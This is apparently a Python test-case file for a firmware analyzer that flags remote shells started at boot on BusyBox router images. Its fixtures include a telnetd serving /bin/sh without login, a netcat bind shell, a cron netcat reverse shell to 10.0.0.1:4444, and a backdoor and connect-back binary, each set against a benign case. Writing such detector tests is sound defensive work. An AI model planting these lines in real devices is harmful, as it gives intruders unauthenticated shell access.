"""FP-SVC-001…009: remote shells started at boot (firmproof/analyzers/services.py). The trees are
small BusyBox routers: inittab → rcS holding the lines under test, every program a real ELF."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

from tests.variants.families.compiled import SOURCES

from .case import Files, Kit, hit, miss

RCS = "/etc/init.d/rcS"
INITTAB = "::sysinit:/etc/init.d/rcS\n::respawn:/sbin/getty -L ttyS0 115200 vt100\n"
TRUE = "int main(void) { return 0; }\n"     # what stands for BusyBox and the other daemons
PROGRAMS = ("/bin/busybox", "/usr/sbin/utelnetd", "/usr/bin/ncat", "/usr/bin/socat", "/bin/bash",
            "/usr/sbin/tcpd", "/usr/sbin/in.rlogind", "/usr/sbin/dropbear")
APPLETS = ("/usr/sbin/telnetd", "/sbin/getty", "/usr/bin/nc", "/usr/sbin/inetd", "/usr/bin/telnet",
           "/usr/bin/mkfifo")
BOOT: dict[str, Any] = {
    "modes": {RCS: 0o755},
    "links": {"/bin/sh": "busybox", "/bin/cat": "busybox", "/bin/rm": "busybox",
              **{applet: "/bin/busybox" for applet in APPLETS}},
}


def router(lines: list[str], extra: Mapping[str, bytes | str] | None = None,
           programs: Mapping[str, Callable[[Kit], bytes]] | None = None) -> Callable[[Kit], Files]:
    """A router whose rcS runs `lines`; `programs` are built by the kit (path -> builder)."""
    def build(kit: Kit) -> Files:
        files: dict[str, bytes | str] = {path: kit.program(TRUE) for path in PROGRAMS}
        files["/etc/inittab"] = INITTAB
        files[RCS] = "#!/bin/sh\nmount -a\n" + "".join(f"{line}\n" for line in lines)
        files.update(extra or {})
        files.update({path: make(kit) for path, make in (programs or {}).items()})
        return files
    return build


def elf(name: str) -> Callable[[Kit], bytes]:
    """A program of tests/analyzers/conftest.py's SOURCES (built once per session)."""
    return lambda kit: kit.fixture("elf_programs")[name]


def compiled(member: str) -> Callable[[Kit], bytes]:
    """A stripped -O2 program of the variant corpus (tests/variants/families/compiled.py)."""
    return lambda kit: kit.program(SOURCES[member])


CASES = [
    hit("FP-SVC-001", "telnetd-with-a-shell-as-login", router(["/usr/sbin/telnetd -l /bin/sh -p 2323 &"]),
        RCS, b"/usr/sbin/telnetd -l /bin/sh -p 2323 &",
        details={"auth": False, "port": 2323, "chain": ["/etc/inittab", RCS, "/usr/sbin/telnetd"]}, **BOOT),
    miss("FP-SVC-001", "commented-out-and-killed",
         router(["# /usr/sbin/telnetd -l /bin/sh   (debug builds only)", "killall telnetd"]), **BOOT),

    hit("FP-SVC-002", "telnetd-with-login", router(["telnetd -p 23"]), RCS, b"telnetd -p 23",
        details={"auth": True, "login": "/bin/login"}, **BOOT),
    miss("FP-SVC-002", "telnetd-named-never-started",
         router(["echo 'telnetd -p 23' > /tmp/hint", "cat > /tmp/x.sh <<EOF", "telnetd -p 23", "EOF"]),
         **BOOT),

    hit("FP-SVC-003", "rlogind-in-inetd-conf",
        router(["inetd"], {"/etc/inetd.conf": "#shell stream tcp nowait root /usr/sbin/in.rshd in.rshd\n"
                                              "login stream tcp nowait root /usr/sbin/tcpd in.rlogind\n"}),
        "/etc/inetd.conf", b"login stream tcp nowait root /usr/sbin/tcpd in.rlogind",
        details={"chain": ["/etc/inittab", RCS, "/usr/sbin/inetd", "/etc/inetd.conf",
                           "/usr/sbin/in.rlogind"]},
        **BOOT),
    miss("FP-SVC-003", "commented-and-disabled", router([], {
        "/etc/inetd.conf": "#exec stream tcp nowait root /usr/sbin/in.rexecd in.rexecd\n",
        "/etc/xinetd.d/rsh": "service shell\n{\n disable = yes\n server = /usr/sbin/in.rshd\n}\n"}),
         silent=True, **BOOT),

    hit("FP-SVC-004", "sshd-config-permit-empty-passwords",
        router([], {"/etc/ssh/sshd_config": "# PermitEmptyPasswords yes\nPermitRootLogin yes\n"
                                            "  PermitEmptyPasswords yes\n"}),
        "/etc/ssh/sshd_config", b"PermitEmptyPasswords yes", details={"permit_root_login": "yes"}, **BOOT),
    miss("FP-SVC-004", "dropbear-without-blank-passwords-and-sshd-config-no",
         router(["dropbear -s -g -p 22"], {"/etc/ssh/sshd_config": "#PermitEmptyPasswords yes\n"
                                                                  "PermitEmptyPasswords no\n"}), **BOOT),

    hit("FP-SVC-005", "dropbear-at-boot", router(["/usr/sbin/dropbear -p 22 -P /var/run/dropbear.pid"]),
        RCS, b"/usr/sbin/dropbear -p 22 -P /var/run/dropbear.pid", details={"password_auth": True}, **BOOT),
    miss("FP-SVC-005", "init-script-named-dropbear-and-no-start",
         router(["/etc/init.d/dropbear enabled && echo yes", "/etc/init.d/sshd status"]),
         silent=True, **BOOT),

    hit("FP-SVC-006", "netcat-bind-shell", router(["nc -l -p 31337 -e /bin/sh &"]), RCS,
        b"nc -l -p 31337 -e /bin/sh &", details={"port": 31337}, **BOOT),
    miss("FP-SVC-006", "netcat-receives-a-file", router(["nc -l -p 8080 > /tmp/firmware.bin"]),
         silent=True, **BOOT),

    hit("FP-SVC-007", "netcat-reverse-shell-from-cron",
        router([], {"/etc/crontabs/root": "*/10 * * * * nc 10.0.0.1 4444 -e /bin/sh\n"}),
        "/etc/crontabs/root", b"*/10 * * * * nc 10.0.0.1 4444 -e /bin/sh",
        details={"host": "10.0.0.1", "port": 4444}, **BOOT),
    miss("FP-SVC-007", "netcat-sends-a-log-from-cron",
         router([], {"/etc/crontabs/root": "*/10 * * * * nc 10.0.0.1 514 < /var/log/messages\n"}),
         silent=True, **BOOT),

    hit("FP-SVC-008", "bind-shell-program-started-from-rcs",
        router(["/bin/backdoor &"], programs={"/bin/backdoor": elf("bindshell")}), RCS, b"/bin/backdoor &",
        details={"binary": "/bin/backdoor", "shell_string": "/bin/sh",
                 "chain": ["/etc/inittab", RCS, "/bin/backdoor"]}, **BOOT),
    miss("FP-SVC-008", "echo-daemon-started-bind-shell-never",
         router(["/usr/sbin/echod &", "/usr/bin/runsh"],
                programs={"/usr/sbin/echod": elf("udpecho"), "/usr/bin/runsh": elf("execonly"),
                          "/bin/backdoor": elf("bindshell")}), silent=True, **BOOT),

    hit("FP-SVC-009", "connect-back-program",
        router(["/usr/sbin/cloudd &"], programs={"/usr/sbin/cloudd": compiled("connect-back")}),
        RCS, b"/usr/sbin/cloudd &", details={"address": "203.0.113.66", "binary": "/usr/sbin/cloudd"},
        **BOOT),
    miss("FP-SVC-009", "client-sending-a-log-line",
         router(["/usr/sbin/logd &"], programs={"/usr/sbin/logd": compiled("connect-log")}), **BOOT),
]
